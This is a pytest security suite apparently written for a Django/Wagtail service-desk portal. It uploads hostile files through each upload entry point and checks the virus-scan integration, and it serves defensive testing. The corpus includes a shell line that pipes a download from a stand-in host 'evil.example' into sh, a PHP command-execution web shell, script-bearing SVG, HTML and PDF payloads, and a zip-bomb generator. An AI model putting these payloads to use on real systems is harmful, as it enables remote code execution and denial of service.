"""A corpus of hostile files through every door that takes a file, and the virus scan.

Each file is sent as raw multipart, its name exactly as an attacker would write it (a
browser or the test client would tidy it first), to every entry point: the request
form (attachments and the type's own file field), replies in the portal, the API and
the admin, and the meter photo in the portal and the API. Each is either refused with
an error on the field, naming the file, and nothing stored, or stored under a generated
name in the private storage and served only as a download of a safe type with `nosniff`.
Wagtail documents and images (staff uploads) are probed for what they serve inline.

The virus scan is tested against a clamd stub (tests/security/clamd_stub.py): a real
socket server speaking INSTREAM, at the network boundary.
"""

import functools
import io
import re
import struct
import time
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path
from types import SimpleNamespace

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import timezone, translation
from PIL import Image

from documents import virus_scan
from documents.storage import private_storage
from documents.uploads import CONTENT_TYPES, MAX_FILE_BYTES, MAX_FILES
from metering.models import Reading
from metering.services import field_name
from servicedesk.models import Attachment, Request
from tests.factories import MeterFactory, ReadingWindowFactory, monthly_readings, png_bytes
from tests.security.clamd_stub import EICAR, ClamdStub, closed_port_address
from tests.servicedesk.conftest import desk, filed  # noqa: F401 (fixtures)

pytestmark = pytest.mark.django_db

REPORT = Path(__file__).resolve().parents[2] / "artifacts" / "upload-corpus.txt"

# What a download may be labelled: the allow-list's types, never a type a browser renders
# as a page (HTML, SVG, XML, script).
SAFE_TYPES = set(CONTENT_TYPES.values())
RENDERED_TYPES = {
    "text/html",
    "image/svg+xml",
    "application/xhtml+xml",
    "text/xml",
    "application/xml",
    "text/javascript",
    "application/javascript",
}
STORED_NAME = re.compile(
    r"^(request-attachments/[0-9a-f]{32}|reading-photos/[0-9a-f]{32}\.(png|jpg))$"
)

# The corpus -----------------------------------------------------------------------------

PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    b"trailer<</Root 1 0 R>>\n%%EOF\n"
)
PDF_WITH_JS = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    b"3 0 obj<</S/JavaScript/JS(app.alert\\(document.cookie\\))>>endobj\n"
    b"trailer<</Root 1 0 R>>\n%%EOF\n"
)
HTML = b"<!DOCTYPE html><html><body><script>fetch('/api/v1/me/')</script></body></html>"
SVG_SCRIPT = (
    b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'
)
SVG_ONLOAD = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>'
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(48) + b"PE\x00\x00"
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00\x01\x00\x00\x00"
SHELL = b"#!/bin/sh\ncurl -s http://evil.example/x | sh\n"
PHP = b"<?php system($_GET['c']); ?>"


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_with_text(text: bytes) -> bytes:
    """A PNG with a tEXt chunk before IEND: still a valid picture."""
    picture = png_bytes()
    return picture[:-12] + png_chunk(b"tEXt", b"Comment\x00" + text) + picture[-12:]


def zip_of(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


JAR = zip_of({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n", "A.class": b"\xca\xfe\xba\xbe"})
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
BOMB_BYTES = 100 * 1024 * 1024
CONTENT_TYPES_XML = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def zip_bomb(*, lie: bool = False) -> bytes:
    """A docx whose one member unpacks to 100 MB of zeros from about 100 kB.

    `lie`: the headers declare the member 1 kB, so only unpacking would show its size.
    """
    packed = _packed_zeros()
    declared = 1024 if lie else BOMB_BYTES
    crc = zlib.crc32(bytes(declared)) if lie else _zeros_crc(BOMB_BYTES)
    members = [("[Content_Types].xml", CONTENT_TYPES_XML, None), ("word/zeros.bin", packed, crc)]
    out, directory = io.BytesIO(), io.BytesIO()
    for name, data, member_crc in members:
        encoded = name.encode()
        if member_crc is None:
            stored, method, size, member_crc = data, 0, len(data), zlib.crc32(data)
        else:
            stored, method, size = data, 8, declared
        offset = out.tell()
        out.write(
            struct.pack(
                "<IHHHHHIIIHH",
                0x04034B50,
                20,
                0,
                method,
                0,
                0,
                member_crc,
                len(stored),
                size,
                len(encoded),
                0,
            )
            + encoded
            + stored
        )
        directory.write(
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0,
                method,
                0,
                0,
                member_crc,
                len(stored),
                size,
                len(encoded),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + encoded
        )
    start = out.tell()
    out.write(directory.getvalue())
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 2, 2, len(directory.getvalue()), start, 0))
    return out.getvalue()


@functools.cache
def _packed_zeros() -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15, 9, zlib.Z_RLE)
    block = bytes(1024 * 1024)
    packed = b"".join(compressor.compress(block) for _ in range(BOMB_BYTES // len(block)))
    return packed + compressor.flush()


def _zeros_crc(size: int) -> int:
    crc, block = 0, bytes(1024 * 1024)
    for _ in range(size // len(block)):
        crc = zlib.crc32(block, crc)
    return crc


@dataclass(frozen=True)
class Probe:
    """One hostile file: the name as sent, its bytes, the type the client claims, and what
    the attachment doors must do (`accepted`, or the refusal's code) and the name the
    message shows. Photo doors take only the files marked `photo_ok`."""

    label: str
    filename: bytes
    content: bytes
    verdict: str
    shown: str = ""
    declared: str = "application/octet-stream"
    photo_ok: bool = False


def corpus() -> list[Probe]:
    polyglot_png = png_bytes() + b"<html><script>alert(1)</script></html>"
    return [
        Probe(
            "svg-script",
            b"drawing.svg",
            SVG_SCRIPT,
            "type_not_allowed",
            "drawing.svg",
            "image/svg+xml",
        ),
        Probe(
            "svg-onload", b"logo.svg", SVG_ONLOAD, "type_not_allowed", "logo.svg", "image/svg+xml"
        ),
        Probe(
            "svg-named-png", b"logo.png", SVG_ONLOAD, "content_mismatch", "logo.png", "image/png"
        ),
        Probe("html", b"page.html", HTML, "type_not_allowed", "page.html", "text/html"),
        Probe(
            "html-named-pdf",
            b"faktura.pdf",
            HTML,
            "content_mismatch",
            "faktura.pdf",
            "application/pdf",
        ),
        Probe(
            "html-named-txt", b"notatka.txt", HTML, "active_content", "notatka.txt", "text/plain"
        ),
        Probe(
            "html-utf16-named-txt",
            b"utf16.txt",
            HTML.decode().encode("utf-16"),
            "not_text",
            "utf16.txt",
        ),
        Probe(
            "png-html-after-iend",
            b"licznik.png",
            polyglot_png,
            "active_content",
            "licznik.png",
            "image/png",
        ),
        Probe(
            "png-script-in-text-chunk",
            b"tekst.png",
            png_with_text(b"<script>alert(1)</script>"),
            "active_content",
            "tekst.png",
            "image/png",
        ),
        Probe(
            "gifar-named-gif",
            b"avatar.gif",
            GIF + JAR,
            "type_not_allowed",
            "avatar.gif",
            "image/gif",
        ),
        Probe(
            "gifar-named-png",
            b"avatar.png",
            GIF + JAR,
            "content_mismatch",
            "avatar.png",
            "image/png",
        ),
        # A picture with an archive after it is still a picture; it is only ever downloaded.
        Probe(
            "png-with-jar",
            b"skan.png",
            png_bytes() + JAR,
            "accepted",
            declared="image/png",
            photo_ok=True,
        ),
        # PDFs may carry JavaScript (decided in documents/uploads.py): kept, never inline.
        Probe(
            "pdf-openaction-js", b"umowa.pdf", PDF_WITH_JS, "accepted", declared="application/pdf"
        ),
        Probe(
            "pdf-javascript-uri",
            b"link.pdf",
            PDF + b"<</S/URI/URI(javascript:alert(1))>>",
            "active_content",
            "link.pdf",
        ),
        Probe(
            "exe-named-jpg", b"zdjecie.jpg", EXE, "content_mismatch", "zdjecie.jpg", "image/jpeg"
        ),
        Probe(
            "elf-named-pdf", b"raport.pdf", ELF, "content_mismatch", "raport.pdf", "application/pdf"
        ),
        Probe("shell-named-png", b"obraz.png", SHELL, "content_mismatch", "obraz.png", "image/png"),
        Probe("php-named-jpg", b"foto.jpg", PHP, "content_mismatch", "foto.jpg", "image/jpeg"),
        Probe(
            "zip-bomb-zip",
            b"bomba.zip",
            zip_bomb(),
            "type_not_allowed",
            "bomba.zip",
            "application/zip",
        ),
        Probe("zip-bomb-docx", b"bomba.docx", zip_bomb(), "unsafe_archive", "bomba.docx"),
        Probe(
            "zip-bomb-docx-lying",
            b"klamca.docx",
            zip_bomb(lie=True),
            "unsafe_archive",
            "klamca.docx",
        ),
        Probe(
            "oversize",
            b"duzy.pdf",
            b"%PDF-1.4\n" + bytes(MAX_FILE_BYTES - 8),
            "too_large",
            "duzy.pdf",
        ),
        Probe(
            "exactly-the-limit", b"limit.pdf", b"%PDF-1.4\n" + bytes(MAX_FILE_BYTES - 9), "accepted"
        ),
        Probe("empty", b"pusty.pdf", b"", "empty", "pusty.pdf"),
        Probe(
            "traversal-no-extension",
            b"../../etc/passwd",
            b"root:x:0:0:root:/root:/bin/sh\n",
            "type_not_allowed",
            "passwd",
        ),
        Probe("traversal", b"../../../var/www/html/shell.pdf", PDF, "accepted"),
        Probe(
            "traversal-backslash",
            b"..\\..\\..\\inetpub\\wwwroot\\web.txt",
            b"zwykly tekst\n",
            "accepted",
        ),
        Probe("absolute-path", b"/etc/cron.d/evil.txt", b"* * * * * root id\n", "accepted"),
        Probe("nul-byte", b"faktura.pdf\x00.exe", EXE, "type_not_allowed", "faktura.pdf.exe"),
        # A raw line break ends the part's header line: the name is cut at it, with the
        # opening quote, and the lines after it are headers of the part, never of a reply.
        Probe(
            "crlf-raw",
            b"pismo\r\nContent-Type: text/html\r\n.txt",
            b"tekst\n",
            "type_not_allowed",
            '"pismo',
        ),
        Probe(
            "crlf-raw-allowed-type",
            b"pismo.txt\r\nContent-Type: text/html\r\nX-A: ",
            b"tekst\n",
            "accepted",
        ),
        Probe("crlf-encoded", b"pismo%0D%0AContent-Type: text%2Fhtml.txt", b"tekst\n", "accepted"),
        Probe("long-name", b"a" * 300 + b".pdf", PDF, "accepted"),
        Probe(
            "rtl-override",
            "faktura\u202efdp.exe".encode(),
            EXE,
            "type_not_allowed",
            "fakturafdp.exe",
        ),
        Probe(
            "rtl-override-png",
            "zdjecie\u202egnp.jpg".encode(),
            EXE,
            "content_mismatch",
            "zdjeciegnp.jpg",
        ),
        Probe("windows-device", b"CON", b"x", "type_not_allowed", "CON"),
        # A device name is only a label here: the file is stored under a generated name,
        # and browsers rename device names when saving.
        Probe("windows-device-txt", b"NUL.txt", b"tekst\n", "accepted"),
        Probe("double-extension", b"faktura.pdf.exe", EXE, "type_not_allowed", "faktura.pdf.exe"),
        Probe(
            "double-extension-reversed", b"setup.exe.pdf", EXE, "content_mismatch", "setup.exe.pdf"
        ),
        Probe("spoofed-type-exe", b"setup.exe", EXE, "type_not_allowed", "setup.exe", "image/png"),
        Probe(
            "spoofed-type-png", b"obrazek.png", EXE, "content_mismatch", "obrazek.png", "image/png"
        ),
        Probe(
            "jpeg-comment-script",
            b"komentarz.jpg",
            jpeg_with_comment(b"<script>alert(1)</script>"),
            "active_content",
            "komentarz.jpg",
            "image/jpeg",
        ),
        # No scanner is configured by default: the test string is plain text then.
        Probe("eicar-without-scanner", b"eicar.txt", EICAR, "accepted", declared="text/plain"),
        Probe(
            "real-photo",
            b"licznik.jpg",
            jpeg_with_comment(b"Nokia"),
            "accepted",
            declared="image/jpeg",
            photo_ok=True,
        ),
    ]


def jpeg_with_comment(comment: bytes) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (10, 90, 160)).save(buffer, "JPEG", comment=comment)
    return buffer.getvalue()


# Raw multipart ---------------------------------------------------------------------------

BOUNDARY = "----okienko-corpus-7MA4YWxkTrZu0gW"


def multipart(fields: dict[str, str], files: list[tuple[str, bytes, bytes, str]]) -> bytes:
    """A multipart body with file names byte for byte as given (no basename, no escaping)."""
    parts = []
    for name, value in fields.items():
        parts.append(
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode()
        )
    for name, filename, content, declared in files:
        parts.append(
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"; filename="'.encode()
            + filename
            + f'"\r\nContent-Type: {declared}\r\n\r\n'.encode()
            + content
            + b"\r\n"
        )
    return b"".join(parts) + f"--{BOUNDARY}--\r\n".encode()


def post_multipart(client, url, fields, files, **extra):
    return client.generic(
        "POST",
        url,
        multipart(fields, files),
        content_type=f"multipart/form-data; boundary={BOUNDARY}",
        **extra,
    )


# The doors -------------------------------------------------------------------------------


@pytest.fixture
def world(desk, filed, home_page, staff_client, client):  # noqa: F811
    """The customer's doors open: a request filed, a meter in its reading window; and staff."""
    meter = MeterFactory(service_point=desk.point)
    meter.last_value = monthly_readings(meter)
    ReadingWindowFactory()
    client.force_login(desk.owner.user)
    return SimpleNamespace(desk=desk, filed=filed, meter=meter, customer=client, staff=staff_client)


ANSWERS = {"invoice": "FV/2026/10/1", "what": "Kwota jest za wysoka.", "reason": "Za wysoka kwota"}


@dataclass(frozen=True)
class Door:
    """One entry point: where it posts, which field takes the file, how it says no."""

    name: str
    field: str
    photo: bool = False
    staff: bool = False
    prefix: str = ""
    sample: bool = False  # the same field class and checks as another door: a sample will do

    def post(self, world, files, **extra):
        client = world.staff if self.staff else world.customer
        files = [(self.prefix + self.field, *file) for file in files]
        meter = world.meter
        if self.name in {"portal-request", "portal-request-file-field"}:
            url = reverse("servicedesk:file", kwargs={"slug": world.desk.complaint.slug})
            return post_multipart(client, url, ANSWERS, files, **extra)
        if self.name == "portal-reply":
            url = reverse("servicedesk:reply", kwargs={"request_id": world.filed.public_id})
            return post_multipart(client, url, {"body": "W załączniku."}, files, **extra)
        if self.name == "api-request":
            fields = {"request_type": world.desk.complaint.slug, **ANSWERS}
            return post_multipart(client, "/api/v1/requests/", fields, files, **extra)
        if self.name == "api-reply":
            url = f"/api/v1/requests/{world.filed.public_id}/reply/"
            return post_multipart(client, url, {"body": "W załączniku."}, files, **extra)
        if self.name == "admin-reply":
            url = reverse("servicedesk_request", args=[world.filed.pk])
            fields = {"action": "reply", "reply-body": "Odpowiedź z plikiem."}
            return post_multipart(client, url, fields, files, **extra)
        value = str(meter.last_value + 120)
        read_on = timezone.localdate().isoformat()
        if self.name == "portal-meter-photo":
            url = reverse("metering:submit", kwargs={"meter_id": meter.public_id})
            fields = {field_name(meter.registers.get()): value, "read_on": read_on}
            return post_multipart(client, url, fields, files, **extra)
        if self.name == "api-meter-photo":
            url = f"/api/v1/meters/{meter.public_id}/readings/"
            fields = {"read_on": read_on, "values": f'{{"1.8.0": "{value}"}}'}
            return post_multipart(client, url, fields, files, **extra)
        raise AssertionError(self.name)

    def errors(self, response) -> list[tuple[str, str]]:
        """(code, message) of the field's errors; codes are known only to the HTML doors."""
        if response.status_code not in (200, 400) or response.get("Location"):
            return []
        if self.name.startswith("api-"):
            fields = response.json().get("error", {}).get("fields", {})
            return [("", message) for message in fields.get(self.field, [])]
        context = response.context
        form = {
            "portal-reply": "reply_form",
            "admin-reply": "reply_form",
        }.get(self.name, "form")
        data = context[form].errors.as_data().get(self.field, [])
        return [(error.code or "", message) for error in data for message in error.messages]

    def stored(self) -> list:
        if self.photo:
            return list(Reading.objects.exclude(photo="").order_by("pk"))
        return list(Attachment.objects.order_by("pk"))

    def download(self, world, stored):
        if self.photo:
            url = reverse("metering:photo", kwargs={"reading_id": stored.public_id})
            return world.customer.get(url), stored.photo
        if self.staff:
            url = reverse("servicedesk_attachment", args=[stored.request_id, stored.public_id])
            return world.staff.get(url), stored.file
        kwargs = {"request_id": stored.request.public_id, "attachment_id": stored.public_id}
        if self.name.startswith("api-"):
            url = f"/api/v1/requests/{stored.request.public_id}/files/{stored.public_id}/"
            return world.customer.get(url), stored.file
        return world.customer.get(reverse("servicedesk:attachment", kwargs=kwargs)), stored.file


SAMPLE = {
    "svg-script",
    "html-named-txt",
    "png-html-after-iend",
    "exe-named-jpg",
    "zip-bomb-docx-lying",
    "oversize",
    "exactly-the-limit",
    "empty",
    "traversal",
    "nul-byte",
    "crlf-raw-allowed-type",
    "rtl-override",
    "pdf-openaction-js",
}
DOORS = [
    Door("portal-request", "attachments"),
    Door("portal-request-file-field", "scan", sample=True),
    Door("portal-reply", "attachments"),
    Door("api-request", "attachments"),
    Door("api-reply", "attachments"),
    Door("admin-reply", "attachments", staff=True, prefix="reply-", sample=True),
    Door("portal-meter-photo", "photo", photo=True),
    Door("api-meter-photo", "photo", photo=True),
]


def served_safely(response, file, content: bytes) -> list[str]:
    """What is wrong with how a stored file is kept and served (nothing, if all is well)."""
    problems = []
    if response.status_code != 200:
        return [f"download answered {response.status_code}"]
    disposition = response["Content-Disposition"]
    content_type = response["Content-Type"].split(";")[0].strip().lower()
    if not disposition.startswith("attachment"):
        problems.append(f"served {disposition!r}")
    if response.get("X-Content-Type-Options") != "nosniff":
        problems.append("no nosniff")
    if content_type not in SAFE_TYPES or content_type in RENDERED_TYPES:
        problems.append(f"served as {content_type}")
    if any(c in value for _, value in response.items() for c in "\r\n\x00"):
        problems.append("a control character in a header")
    if b"".join(response.streaming_content) != content:
        problems.append("the bytes served differ from the bytes sent")
    if not STORED_NAME.match(file.name):
        problems.append(f"stored as {file.name!r}")
    location = Path(private_storage().path(file.name)).resolve()
    if not location.is_relative_to(Path(private_storage().location).resolve()):
        problems.append(f"stored outside the private storage: {location}")
    if location.is_relative_to(Path(settings.MEDIA_ROOT).resolve()):
        problems.append("stored under the public media root")
    return problems


def test_every_hostile_file_through_every_door_is_refused_or_kept_safely(world):
    probes = corpus()
    assert len(probes) >= 20 and len({p.label for p in probes}) == len(probes)
    problems, verdicts = [], {}
    for door in DOORS:
        for probe in probes:
            if door.sample and probe.label not in SAMPLE:
                continue
            before = {item.pk for item in door.stored()}
            requests_before = Request.objects.count()
            response = door.post(world, [(probe.filename, probe.content, probe.declared)])
            where = f"{door.name} / {probe.label}"
            if response.status_code >= 500:
                problems.append(f"{where}: server error {response.status_code}")
                continue
            new = [item for item in door.stored() if item.pk not in before]
            errors = door.errors(response)
            expected = (
                ("accepted" if probe.photo_ok else "refused") if door.photo else probe.verdict
            )
            verdict = "accepted" if new else "refused" if errors else "neither"
            verdicts[(door.name, verdict)] = verdicts.get((door.name, verdict), 0) + 1
            if expected == "accepted":
                if len(new) != 1:
                    problems.append(f"{where}: not accepted ({errors or response.status_code})")
                    continue
                download, file = door.download(world, new[0])
                problems += [f"{where}: {p}" for p in served_safely(download, file, probe.content)]
                if not door.photo and any(c in new[0].original_name for c in "/\\\r\n\x00\u202e"):
                    problems.append(f"{where}: kept the name {new[0].original_name!r}")
                continue
            if new or (
                door.name.endswith("request") and Request.objects.count() != requests_before
            ):
                problems.append(f"{where}: stored, should have been refused")
            if not errors:
                problems.append(f"{where}: refused without an error on {door.field!r}")
            elif not door.photo:
                codes = {code for code, _ in errors}
                if not door.name.startswith("api-") and probe.verdict not in codes:
                    problems.append(f"{where}: refused as {codes}, expected {probe.verdict}")
                if not any(message.startswith(probe.shown) for _, message in errors):
                    problems.append(f"{where}: no message naming {probe.shown!r}: {errors}")
            if door.name.startswith("portal-") and errors:
                page = response.content.decode()
                if f'id="id_{door.field}_error"' not in page:
                    problems.append(f"{where}: the error is not shown at the field")
    write_report(probes, verdicts)
    assert not problems, "\n".join(problems)


def write_report(probes, verdicts) -> None:
    REPORT.parent.mkdir(exist_ok=True)
    lines = [
        f"hostile files in the corpus: {len(probes)}",
        f"  expected accepted at attachment doors: {sum(p.verdict == 'accepted' for p in probes)}",
        f"  expected refused at attachment doors: {sum(p.verdict != 'accepted' for p in probes)}",
        f"  accepted at photo doors: {sum(p.photo_ok for p in probes)}",
        f"entry points: {len(DOORS)} ({', '.join(d.name for d in DOORS)})",
        f"probes sent: {sum(verdicts.values())}",
    ]
    for door in DOORS:
        accepted = verdicts.get((door.name, "accepted"), 0)
        refused = verdicts.get((door.name, "refused"), 0)
        lines.append(
            f"  {door.name}{' (a sample)' if door.sample else ''}: "
            f"{refused} refused with a field error, {accepted} accepted"
        )
    lines += [
        f"virus scan (clamd stub, tcp and unix socket): {len(DOORS)} entry points, each "
        "refusing the EICAR test file and keeping a clean one, scanned once",
        f"scanner without a verdict ({', '.join(SCANNER_FAULTS)}): refused, fail closed, "
        f"at {len(FAULT_DOORS)} entry points",
        "staff uploads: the corpus through Wagtail documents and Wagtail images (admin)",
    ]
    REPORT.write_text("\n".join(lines) + "\n")


# Too many files, and archives never unpacked --------------------------------------------

ATTACHMENT_DOORS = [door for door in DOORS if not door.photo]


def test_more_files_than_allowed_are_refused_at_every_door(world):
    files = [(f"skan-{n}.pdf".encode(), PDF, "application/pdf") for n in range(MAX_FILES + 1)]
    for door in ATTACHMENT_DOORS:
        before = len(door.stored())
        response = door.post(world, files)
        assert door.errors(response), door.name
        assert str(MAX_FILES) in door.errors(response)[0][1], door.name
        assert len(door.stored()) == before, door.name


def test_a_flood_of_files_is_refused_before_any_is_read(world):
    """Past DATA_UPLOAD_MAX_NUMBER_FILES Django stops parsing: a 400, nothing kept."""
    count = settings.DATA_UPLOAD_MAX_NUMBER_FILES + 1
    files = [(f"{n}.txt".encode(), b"x", "text/plain") for n in range(count)]
    for door in (DOORS[0], DOORS[3]):
        response = door.post(world, files)
        assert response.status_code == 400, door.name
        assert not Attachment.objects.exclude(pk__in=world.filed.attachments.all()).exists()


def test_a_zip_bomb_in_a_document_is_refused_without_being_unpacked(world, monkeypatch):
    """What the server unpacks is counted: nothing of a bomb whose headers tell the truth,
    and nothing of one that lies about its size."""
    unpacked = []
    original_read = zipfile.ZipExtFile.read

    def counting_read(self, n=-1):
        data = original_read(self, n)
        unpacked.append(len(data))
        return data

    monkeypatch.setattr(zipfile.ZipExtFile, "read", counting_read)
    door = DOORS[0]
    for filename, content in ((b"bomba.docx", zip_bomb()), (b"klamca.docx", zip_bomb(lie=True))):
        unpacked.clear()
        response = door.post(world, [(filename, content, "application/octet-stream")])
        assert [code for code, _ in door.errors(response)] == ["unsafe_archive"]
        assert sum(unpacked) == 0, filename
    honest = zip_of({"[Content_Types].xml": CONTENT_TYPES_XML, "word/document.xml": b"<w/>" * 100})
    response = door.post(world, [(b"pismo.docx", honest, "application/octet-stream")])
    assert response.status_code == 302 and sum(unpacked) >= 400  # the spy does see unpacking


# The virus scan ----------------------------------------------------------------------------


INFECTED = "%(name)s: the virus scanner found harmful content in the file."
TRY_LATER = "%(name)s: the file could not be checked for viruses just now. Please try again later."


def message(text: str, filename: bytes) -> str:
    """The message as the customer reads it, in the portal's first language."""
    with translation.override(settings.LANGUAGE_CODE):
        return translation.gettext(text) % {"name": filename.decode()}


def eicar_probe(door: Door) -> tuple[bytes, bytes]:
    """The test string in a file each door otherwise accepts."""
    if door.photo:
        return b"licznik.png", png_with_text(EICAR)
    return b"eicar.txt", EICAR


def test_off_by_default_nothing_is_sent_anywhere(world, settings):
    assert settings.CLAMAV_ADDRESS == ""
    with ClamdStub() as clamd:
        response = DOORS[0].post(world, [(b"eicar.txt", EICAR, "text/plain")])
    assert response.status_code == 302
    assert clamd.scans == []


@pytest.mark.parametrize("unix", [False, True], ids=["tcp", "unix-socket"])
def test_with_clamd_every_door_refuses_what_it_finds_and_keeps_what_it_clears(
    world, settings, unix
):
    with ClamdStub(unix=unix) as clamd:
        settings.CLAMAV_ADDRESS = clamd.address
        for door in DOORS:
            before = len(door.stored())
            filename, content = eicar_probe(door)
            response = door.post(world, [(filename, content, "application/octet-stream")])
            errors = door.errors(response)
            assert errors, door.name
            assert errors[0][1] == message(INFECTED, filename), door.name
            assert len(door.stored()) == before, door.name
            assert clamd.scans[-1].reply.endswith(b"FOUND")

            scans = len(clamd.scans)
            clean = png_bytes() if door.photo else PDF
            name = b"licznik.png" if door.photo else b"pismo.pdf"
            response = door.post(world, [(name, clean, "application/octet-stream")])
            assert not door.errors(response), door.name
            assert len(door.stored()) == before + 1, door.name
            assert len(clamd.scans) == scans + 1, "each file is streamed to clamd exactly once"
            assert clamd.scans[-1].data == clean and clamd.scans[-1].reply == b"stream: OK"


def test_files_are_streamed_in_framed_chunks(world, settings):
    content = PDF + bytes(300 * 1024)
    with ClamdStub() as clamd:
        settings.CLAMAV_ADDRESS = clamd.address
        response = DOORS[3].post(world, [(b"duzy.pdf", content, "application/pdf")])
    assert response.status_code == 201
    [scan] = clamd.scans
    assert scan.command == b"zINSTREAM" and scan.terminated
    assert scan.data == content
    assert len(scan.chunk_sizes) == -(-len(content) // virus_scan.CHUNK_BYTES)
    assert max(scan.chunk_sizes) <= virus_scan.CHUNK_BYTES


SCANNER_FAULTS = ["unreachable", "hang", "garbage", "close", "too-long"]
FAULT_DOORS = (DOORS[0], DOORS[3], DOORS[6])


@pytest.mark.parametrize("trouble", SCANNER_FAULTS)
def test_a_scanner_that_gives_no_verdict_refuses_the_file(world, settings, monkeypatch, trouble):
    """Fail closed: no verdict, no file; the customer is told to try again later."""
    monkeypatch.setattr(virus_scan, "TIMEOUT_SECONDS", 1.0)
    behaviour = trouble if trouble in {"hang", "garbage", "close"} else "scan"
    with ClamdStub(behaviour=behaviour) as clamd:
        clamd.stream_max_length = 16 if trouble == "too-long" else clamd.stream_max_length
        settings.CLAMAV_ADDRESS = (
            closed_port_address() if trouble == "unreachable" else clamd.address
        )
        for door in FAULT_DOORS:
            before = len(door.stored())
            name, content = (
                (b"licznik.png", png_bytes()) if door.photo else (b"pismo.pdf", PDF + bytes(4096))
            )
            started = time.monotonic()
            response = door.post(world, [(name, content, "application/octet-stream")])
            assert time.monotonic() - started < 10, door.name
            errors = door.errors(response)
            assert errors and errors[0][1] == message(TRY_LATER, name), (door.name, errors)
            assert len(door.stored()) == before, door.name
            if door.name.startswith("portal-request"):
                assert [code for code, _ in errors] == ["scan_unavailable"]


# Staff uploads: Wagtail documents and images --------------------------------------------


def test_wagtail_documents_never_serve_a_page_inline(world):
    from wagtail.documents.models import Document
    from wagtail.models import Collection

    root = Collection.get_first_root_node()
    refused = served = 0
    problems = []
    for probe in corpus():
        if len(probe.content) > MAX_FILE_BYTES:
            continue
        response, new = staff_upload(world, "wagtaildocs:add", Document, probe, root)
        if not new:
            refused += 1
            if response.status_code != 200 or not response.context["form"].errors:
                problems.append(f"{probe.label}: refused without a form error")
            continue
        served += 1
        problems += [f"{probe.label}: {p}" for p in document_served_safely(world.staff, new.get())]
    assert not problems, "\n".join(problems)
    assert refused and served


def staff_upload(world, view_name, model, probe, collection):
    """A file uploaded by staff through Wagtail's add view: the answer, and what it stored."""
    before = set(model.objects.values_list("pk", flat=True))
    response = post_multipart(
        world.staff,
        reverse(view_name),
        {"title": probe.label, "collection": str(collection.pk)},
        [("file", probe.filename, probe.content, probe.declared)],
    )
    return response, model.objects.exclude(pk__in=before)


def document_served_safely(client, document) -> list[str]:
    response = client.get(document.url)
    if response.status_code != 200:
        return [f"answered {response.status_code}"]
    content_type = response["Content-Type"].split(";")[0].strip()
    disposition = response["Content-Disposition"]
    problems = []
    if content_type in RENDERED_TYPES:
        problems.append(f"served as {content_type}")
    if not disposition.startswith("attachment") and content_type != "application/pdf":
        problems.append(f"{content_type} served {disposition!r}")
    if response.get("X-Content-Type-Options") != "nosniff":
        problems.append("no nosniff")
    if response.get("Content-Security-Policy") != "default-src 'none'":
        problems.append("no CSP")
    return problems


@pytest.mark.parametrize("extension", ["html", "htm", "svg", "xhtml", "xml", "js"])
def test_a_document_that_is_a_page_is_only_ever_downloaded(world, extension):
    """Even one stored before the extension list was narrowed, or by a script."""
    from django.core.files.base import ContentFile
    from wagtail.documents.models import Document

    assert extension not in settings.WAGTAILDOCS_EXTENSIONS
    document = Document.objects.create(
        title=extension,
        file=ContentFile(SVG_SCRIPT if extension == "svg" else HTML, name=f"page.{extension}"),
    )
    response = world.staff.get(document.url)
    assert response["Content-Disposition"].startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "default-src 'none'"
    assert not set(settings.WAGTAILDOCS_INLINE_CONTENT_TYPES) & RENDERED_TYPES


def test_wagtail_images_take_no_svg_and_nothing_that_is_not_a_picture(world):
    from wagtail.images import get_image_model
    from wagtail.models import Collection

    Image_ = get_image_model()
    root = Collection.get_first_root_node()
    problems = []
    for probe in corpus():
        if len(probe.content) > MAX_FILE_BYTES:
            continue
        response, new = staff_upload(world, "wagtailimages:add", Image_, probe, root)
        if not new:
            if response.status_code != 200 or not response.context["form"].errors.get("file"):
                problems.append(f"{probe.label}: refused without an error on the file")
            continue
        with new.get().file.open("rb") as stored, Image.open(stored) as picture:
            if picture.format not in {"PNG", "JPEG", "GIF", "WEBP", "AVIF"}:
                problems.append(f"{probe.label}: kept as {picture.format}")
        if new.get().file.name.lower().endswith((".svg", ".html", ".htm")):
            problems.append(f"{probe.label}: kept as {new.get().file.name}")
    assert not problems, "\n".join(problems)
